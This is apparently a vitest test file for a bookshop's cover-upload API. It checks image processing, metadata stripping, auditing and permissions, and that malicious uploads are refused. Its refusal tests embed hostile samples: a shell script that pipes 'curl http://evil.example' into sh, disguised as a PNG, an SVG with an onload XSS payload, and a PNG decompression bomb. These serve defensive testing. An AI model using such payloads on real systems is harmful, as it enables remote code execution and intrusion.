import { CATALOGUE_API_PATHS, COVER_UPLOAD_MESSAGES, COVER_WIDTHS, coverUrl } from '@bookshop/domain';
import { and, desc, eq, sql } from 'drizzle-orm';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { auditLog, bookCoverImages, books } from '../src/db/schema/index.js';
import { useCheckoutTestApp } from './support/checkout.js';
import { multipartBody, pngBomb } from './support/multipart.js';
import { type SignedInStaff, signedInStaff } from './support/staff.js';

const t = useCheckoutTestApp();
let cataloguer: SignedInStaff;
let ordersDesk: SignedInStaff;
let bookId: number;

beforeAll(async () => {
  cataloguer = await signedInStaff(t.app, t.database.db, 'catalogue');
  ordersDesk = await signedInStaff(t.app, t.database.db, 'orders');
  const [book] = await t.database.db.select({ id: books.id }).from(books).orderBy(books.id).limit(1);
  if (!book) throw new Error('no book');
  bookId = book.id;
});

/** A photo of a cover as a phone takes it: JPEG, with EXIF (camera, a comment) the shop must not pass on. */
async function photo(width = 600, height = 900): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 180, g: 40, b: 60 } } })
    .jpeg()
    .withExif({ IFD0: { Make: 'PhoneCo', ImageDescription: 'kitchen table, home address' } })
    .toBuffer();
}

async function upload(
  staff: SignedInStaff,
  file: { name: string; type: string; content: Buffer },
  id = bookId,
) {
  const { payload, headers } = multipartBody('cover', file);
  return t.app.inject({
    method: 'POST',
    url: CATALOGUE_API_PATHS.bookCover(id),
    headers: { ...staff.headers, ...headers },
    payload,
  });
}

async function picnameOf(id: number): Promise<string> {
  const [row] = await t.database.db.select({ picname: books.picname }).from(books).where(eq(books.id, id));
  return row?.picname ?? '';
}

async function storedCovers(): Promise<number> {
  const [row] = await t.database.db.select({ n: sql<number>`count(*)::int` }).from(bookCoverImages);
  return Number(row?.n ?? 0);
}

describe('cover upload', () => {
  it('makes every served width as WebP without the photo’s metadata, under a new address, audited', async () => {
    const before = await picnameOf(bookId);
    const original = await photo();
    expect((await sharp(original).metadata()).exif).toBeDefined();
    const res = await upload(cataloguer, { name: 'cover.jpg', type: 'image/jpeg', content: original });
    expect(res.statusCode, res.body).toBe(200);
    const book = res.json().data.book;
    expect(book.has_cover).toBe(true);
    expect(book.picname).not.toBe(before);

    for (const width of COVER_WIDTHS) {
      const image = await t.app.inject({ url: coverUrl(book.picname, width) });
      expect(image.statusCode).toBe(200);
      expect(image.headers['content-type']).toBe('image/webp');
      const meta = await sharp(image.rawPayload).metadata();
      expect(meta).toMatchObject({ format: 'webp', width, height: Math.round((width * 3) / 2) });
      expect(meta.exif).toBeUndefined();
      expect(meta.icc).toBeUndefined();
      // The uploaded colour, not the generated cover's.
      const { dominant } = await sharp(image.rawPayload).stats();
      expect(dominant.r).toBeGreaterThan(150);
    }
    const [entry] = await t.database.db
      .select()
      .from(auditLog)
      .where(and(eq(auditLog.action, 'book.cover_uploaded'), eq(auditLog.targetId, String(bookId))))
      .orderBy(desc(auditLog.id));
    expect(entry).toMatchObject({ staffId: cataloguer.id, before: { picname: before } });
    expect(entry?.after).toMatchObject({ picname: book.picname, format: 'jpeg', width: 600, height: 900 });

    const listed = await t.app.inject({
      url: `${CATALOGUE_API_PATHS.books}?no_cover=1&limit=200`,
      headers: cataloguer.headers,
    });
    expect(listed.json().data.books.map((b: { id: number }) => b.id)).not.toContain(bookId);
  });

  it('goes back to the generated cover when the upload is removed', async () => {
    await upload(cataloguer, {
      name: 'cover.png',
      type: 'image/png',
      content: await sharp(await photo())
        .png()
        .toBuffer(),
    });
    const res = await t.app.inject({
      method: 'DELETE',
      url: CATALOGUE_API_PATHS.bookCover(bookId),
      headers: cataloguer.headers,
    });
    expect(res.statusCode).toBe(200);
    const book = res.json().data.book;
    expect(book.has_cover).toBe(false);
    const image = await t.app.inject({ url: coverUrl(book.picname, 320) });
    expect(image.statusCode).toBe(200);
    const { dominant } = await sharp(image.rawPayload).stats();
    expect(dominant.r).toBeLessThan(150);
  });

  it('is refused to the orders role', async () => {
    const res = await upload(ordersDesk, { name: 'cover.jpg', type: 'image/jpeg', content: await photo() });
    expect(res.statusCode).toBe(403);
  });
});

describe('a malicious upload is refused without harm', () => {
  async function refused(file: { name: string; type: string; content: Buffer }, message: string) {
    const picname = await picnameOf(bookId);
    const covers = await storedCovers();
    const res = await upload(cataloguer, file);
    expect(res.statusCode).toBe(422);
    expect(res.json()).toEqual({ errors: { cover: [message] } });
    expect(await picnameOf(bookId)).toBe(picname);
    expect(await storedCovers()).toBe(covers);
  }

  it('refuses a script renamed .png, sent as image/png', async () => {
    await refused(
      {
        name: 'cover.png',
        type: 'image/png',
        content: Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'),
      },
      COVER_UPLOAD_MESSAGES.notImage,
    );
    await refused(
      {
        name: 'cover.png',
        type: 'image/png',
        content: Buffer.from(
          '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="400" height="600"/>',
        ),
      },
      COVER_UPLOAD_MESSAGES.notImage,
    );
  });

  it('refuses a 50 MB upload', async () => {
    const big = Buffer.alloc(50 * 1024 * 1024, 0x41);
    await refused({ name: 'cover.jpg', type: 'image/jpeg', content: big }, COVER_UPLOAD_MESSAGES.tooLarge);
  });

  it('refuses a 50 MB upload that does not say its length, cutting it off at the limit', async () => {
    const picname = await picnameOf(bookId);
    const { payload, headers } = multipartBody('cover', {
      name: 'cover.jpg',
      type: 'image/jpeg',
      content: Buffer.alloc(50 * 1024 * 1024, 0x42),
    });
    const { 'content-length': _length, ...withoutLength } = headers;
    const res = await t.app.inject({
      method: 'POST',
      url: CATALOGUE_API_PATHS.bookCover(bookId),
      headers: { ...cataloguer.headers, ...withoutLength, 'transfer-encoding': 'chunked' },
      payload,
    });
    expect(res.statusCode).toBe(422);
    expect(res.json()).toEqual({ errors: { cover: [COVER_UPLOAD_MESSAGES.tooLarge] } });
    expect(await picnameOf(bookId)).toBe(picname);
  });

  it('refuses an image bomb: a small PNG declaring 50,000 × 50,000 pixels, before decoding it', async () => {
    const bomb = pngBomb();
    expect(bomb.length).toBeLessThan(10_000);
    const started = process.memoryUsage().rss;
    await refused(
      { name: 'cover.png', type: 'image/png', content: bomb },
      COVER_UPLOAD_MESSAGES.tooManyPixels,
    );
    expect(process.memoryUsage().rss - started).toBeLessThan(200 * 1024 * 1024);
  });

  it('refuses a damaged image, a too small one and a request without a file', async () => {
    const whole = await photo();
    await refused(
      { name: 'cover.jpg', type: 'image/jpeg', content: whole.subarray(0, Math.floor(whole.length / 3)) },
      COVER_UPLOAD_MESSAGES.unreadable,
    );
    await refused(
      { name: 'tiny.jpg', type: 'image/jpeg', content: await photo(40, 60) },
      COVER_UPLOAD_MESSAGES.tooSmall,
    );
    const json = await t.app.inject({
      method: 'POST',
      url: CATALOGUE_API_PATHS.bookCover(bookId),
      headers: cataloguer.headers,
      payload: { cover: 'x' },
    });
    expect(json.statusCode).toBe(422);
    expect(json.json()).toEqual({ errors: { cover: [COVER_UPLOAD_MESSAGES.missing] } });
  });
});
